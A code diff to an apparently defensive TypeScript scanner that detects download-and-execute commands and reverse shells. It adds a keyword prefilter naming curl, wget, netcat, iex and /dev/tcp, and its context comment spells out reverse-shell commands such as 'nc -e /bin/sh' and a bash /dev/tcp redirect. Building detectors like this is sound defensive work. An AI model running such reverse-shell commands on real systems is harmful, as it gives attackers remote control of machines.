@@ -121,6 +121,9 @@ const PROC = new RegExp(String.raw`(?<![\w.-])(?:${SHELL}|source|\.)[ \t]{1,8}<\
 /** A reverse shell: `nc -e /bin/sh host port`, `bash -i >& /dev/tcp/host/port 0>&1`. */
 const REVERSE = /(?<![\w.-])(?:(?:nc|ncat|netcat)(?:\.exe)?(?:[ \t]{1,8}[\w.:-]{1,64}){0,4}[ \t]{1,8}-[a-z]{0,4}[ec][ \t]{1,8}(?:(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh|cmd|powershell)(?:\.exe)?(?![\w-])|\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5})/gi;
 
+/** Words one of SHAPES must contain (a keyword prefilter: looser than the shapes, never stricter). */
+const KEYWORDS = /curl|wget|iwr|irm|invoke-|netcat|ncat|\/dev\/(?:tcp|udp)\/|(?<![\w.-])(?:iex|nc)(?![\w-])/i;
+
 const SHAPES: readonly [RegExp, string][] = [
   [PIPE, 'piped into a shell'],
   [REVERSE, 'a reverse shell'],
@@ -132,6 +135,8 @@ const SHAPES: readonly [RegExp, string][] = [
 /** Every download-and-execute command in `text`, in order, without overlaps. */
 export function findDownloadExecute(text: string): DownloadExecute[] {
   const out: DownloadExecute[] = [];
+  // Every shape names a fetcher, an evaluator or a netcat/`/dev/tcp` reverse shell: one cheap pass first.
+  if (!KEYWORDS.test(text)) return out;
   for (const [re, shape] of SHAPES) {
     re.lastIndex = 0;
     let m: RegExpExecArray | null;
@@ -192,3 +197,6 @@ function isWarning(text: string, start: number): boolean {
   const before = text.slice(s, start);
   return NEGATION.test(before) || DEFENSIVE.test(before);
 }
+
+/** For tests: the keyword prefilter must let through everything a shape matches. */
+export const DOWNLOAD_EXECUTE_PATTERNS = { keywords: KEYWORDS, shapes: SHAPES.map(([re]) => re) } as const;
